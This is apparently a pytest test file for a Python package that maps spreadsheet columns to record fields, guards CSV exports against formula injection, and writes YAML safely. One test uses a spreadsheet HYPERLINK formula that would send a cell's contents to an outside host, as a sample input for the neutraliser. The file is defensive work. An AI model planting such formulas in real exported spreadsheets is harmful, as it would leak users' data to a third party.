"""The column model, formula neutralisation and the YAML writer of vpsec.sheets."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vpsec.load.yamlread import parse_documents
from vpsec.models import KINDS
from vpsec.sheets.columns import (
    TEMPLATE_SLOTS,
    Shape,
    column_at,
    columns_for,
    match_header,
    meaning_of,
    sheet_title,
    slot_lists,
)
from vpsec.sheets.export import template_table
from vpsec.sheets.formulas import TRIGGERS, neutralise_csv, restore_csv, starts_formula, xml_safe
from vpsec.sheets.yamlwrite import quote, record_yaml, scalar


def _leaves(schema: dict[str, Any], defs: dict[str, Any], prefix: str = "") -> set[str]:
    """Every leaf field of a JSON Schema, as dotted paths (list items without indices)."""
    if "anyOf" in schema:
        options = [o for o in schema["anyOf"] if o.get("type") != "null"]
        schema = options[0]
    if "$ref" in schema:
        schema = defs[schema["$ref"].rsplit("/", 1)[-1]]
    if schema.get("type") == "array" and "$ref" in schema.get("items", {}):
        return _leaves(schema["items"], defs, prefix)
    if "properties" in schema:
        out: set[str] = set()
        for name, sub in schema["properties"].items():
            out |= _leaves(sub, defs, f"{prefix}.{name}" if prefix else name)
        return out
    return {prefix}


@pytest.mark.parametrize("kind", list(KINDS))
def test_every_field_of_every_kind_has_a_column(kind: str) -> None:
    schema = KINDS[kind].model_json_schema(by_alias=True, mode="validation")
    wanted = _leaves(schema, schema.get("$defs", {})) - {"apiVersion", "kind"}
    columns = columns_for(kind).columns
    got = {".".join(p for p in c.path if isinstance(p, str) and p != "*") for c in columns}
    assert got == wanted
    headers = [c.header for c in columns]
    assert len(headers) == len(set(headers))
    assert columns[0].path == ("id",) and columns[0].shape is Shape.ID
    assert [c.path[0] for c in columns[-4:]] == ["title", "notes", "sensitivity", "custom"]


@pytest.mark.parametrize("kind", list(KINDS))
def test_every_column_is_explained_in_one_line(kind: str) -> None:
    for column in template_table(kind).columns:
        text = column.explanation(kind)
        assert "\n" not in text
        assert meaning_of(kind, column.path), f"{kind} {column.field} has no meaning"
        assert ("Required." in text) == column.required


def test_transfer_items_are_one_row_each_and_headers_are_readable() -> None:
    columns = {c.field: c for c in columns_for("Transfer").columns}
    assert columns["recipient.unit"].header == "Recipient unit"
    assert columns["items.quantity"].header == "Item quantity"
    assert columns["items.quantity"].in_row_list
    assert columns["items.value.currency"].required_in_part
    assert columns["site"].shape is Shape.REF and columns["site"].refers_to == ("Site",)
    assert columns["date"].shape is Shape.DATE
    assert columns["lethal"].shape is Shape.BOOL and columns["lethal"].default is False
    assert "in_kind" in columns["type"].choices


def test_lists_of_parts_are_numbered_columns() -> None:
    assert set(slot_lists("Meeting")) == {"participants", "decisions"}
    columns = [c.header for c in template_table("Meeting").columns]
    assert f"Participant {TEMPLATE_SLOTS} role" in columns
    first = next(c for c in template_table("Meeting").columns if c.header == "Participant 1 name")
    assert first.required  # a meeting needs at least one participant
    headers = [c.header for c in columns_for("Meeting").columns]
    assert headers.index("Participant 1 organisation") == headers.index("Participant 1 name") + 1


@pytest.mark.parametrize(
    ("kind", "header", "field"),
    [
        ("Transfer", "Recipient unit", "recipient.unit"),
        ("Transfer", "recipient.unit", "recipient.unit"),
        ("Transfer", "Fecha", "date"),
        ("Transfer", "Bénéficiaire", "recipient.unit"),
        ("Transfer", "BENEFICIAIRE", "recipient.unit"),
        ("Transfer", "Quantité", "items.quantity"),
        ("Transfer", "Montant", "items.value.amount"),
        ("Transfer", "N°", "id"),
        ("Transfer", "Purpose (required)", "purpose"),
        ("Meeting", "Participant 7 role", "participants[6].role"),
        ("Meeting", "participants[2].name", "participants[2].name"),
        ("Incident", "Estado", "status"),
    ],
)
def test_headers_are_recognised(kind: str, header: str, field: str) -> None:
    found = match_header(kind, header)
    assert found is not None and found[0].field == field


def test_unknown_headers_and_the_mapping_file() -> None:
    assert match_header("Transfer", "Remarks of the auditor") is None
    assert match_header("Transfer", "") is None
    found = match_header("Transfer", "Unité réceptrice", {"Unité réceptrice": "recipient.unit"})
    assert found is not None and found == (
        column_at("Transfer", ("recipient", "unit")),
        "mapping file",
    )


def test_sheet_titles_fit_excel() -> None:
    titles = [sheet_title(kind) for kind in KINDS]
    assert "Risk assessments" in titles
    assert all(len(t) <= 31 for t in titles) and len(set(titles)) == len(titles)


# -- formulas ------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_trigger_is_neutralised_in_csv(trigger: str) -> None:
    value = f'{trigger}HYPERLINK("http://x/?"&A1)'
    assert starts_formula(value)
    written = neutralise_csv(value)
    assert written.startswith("'") and not starts_formula(written)
    assert restore_csv(written) == value


@given(st.text(st.sampled_from(list("'=+-@\t\rab ")), max_size=6))
@settings(max_examples=200, deadline=None, derandomize=True, database=None)
def test_neutralisation_round_trips_and_is_always_safe(text: str) -> None:
    written = neutralise_csv(text)
    assert not starts_formula(written)
    assert restore_csv(written) == text


def test_plain_values_are_left_alone() -> None:
    for text in ("kamituga", "3rd Mobile Police Unit", "it's", "a=b", "'quoted'"):
        assert neutralise_csv(text) == text == restore_csv(text)


def test_xml_safe_replaces_what_xlsx_cannot_hold() -> None:
    assert xml_safe("a\x01b") == ("a\ufffdb", True)
    assert xml_safe("tab\tline\nok") == ("tab\tline\nok", False)


# -- the YAML writer -------------------------------------------------------------------

AWKWARD = [
    "yes",
    "No",
    "null",
    "~",
    "true",
    "12",
    "0x1F",
    "1e3",
    ".inf",
    "- item",
    "a: b",
    "a #b",
    "#x",
    "@x",
    "`x",
    "!tag",
    "&anchor",
    "*alias",
    "'single'",
    '"double"',
    "[list]",
    "{map}",
    "trailing ",
    " leading",
    "two  spaces",
    "line\nbreak",
    "tab\there",
    "cr\rhere",
    "back\\slash",
    "nul\x00",
    "bell\x07",
    "nel\x85",
    "ls\u2028",
    "bom\ufeff",
    "קמיטוגה",
    "👩🏽‍🚒",
    "=1+1",
    "%YAML",
    "---",
    "...",
    "<<",
    "",
    "2026-03-14",
    "2026-02-30",
    "Cdt. Jean-Pierre Mbala",
    "3rd Mobile Police Unit",
]


@pytest.mark.parametrize("text", AWKWARD)
def test_quoted_strings_read_back_unchanged(text: str) -> None:
    (document,) = parse_documents(f"value: {quote(text)}\n")
    assert document.value == {"value": text}


@given(st.text(max_size=20))
@settings(max_examples=300, deadline=None, derandomize=True, database=None)
def test_any_string_reads_back_unchanged(text: str) -> None:
    (document,) = parse_documents(f"value: {quote(text)}\n")
    assert document.value == {"value": text}


def test_plain_where_a_person_would_write_plain() -> None:
    assert quote("kamituga") == "kamituga"
    assert quote("Handheld VHF radio, company frequency plan") == (
        "Handheld VHF radio, company frequency plan"
    )
    assert quote("2026-03-14") == "2026-03-14"
    assert quote("yes").startswith('"')


def test_a_record_reads_back_as_written() -> None:
    record = {
        "apiVersion": "vpsec/v1",
        "kind": "Transfer",
        "id": "trf-1",
        "items": [{"description": "radios", "quantity": 12, "value": {"amount": 2400.5}}],
        "covers": ["a", "b"],
        "empty": [],
        "custom": {"nested": [[1, 2], {"x": None}], "flag": True, "n": 1e20},
    }
    text = record_yaml(record, "../schemas/transfer.json")
    assert text.startswith("# yaml-language-server: $schema=../schemas/transfer.json\n")
    (document,) = parse_documents(text)
    assert document.value == record
    assert scalar(2400.0) == "2400"
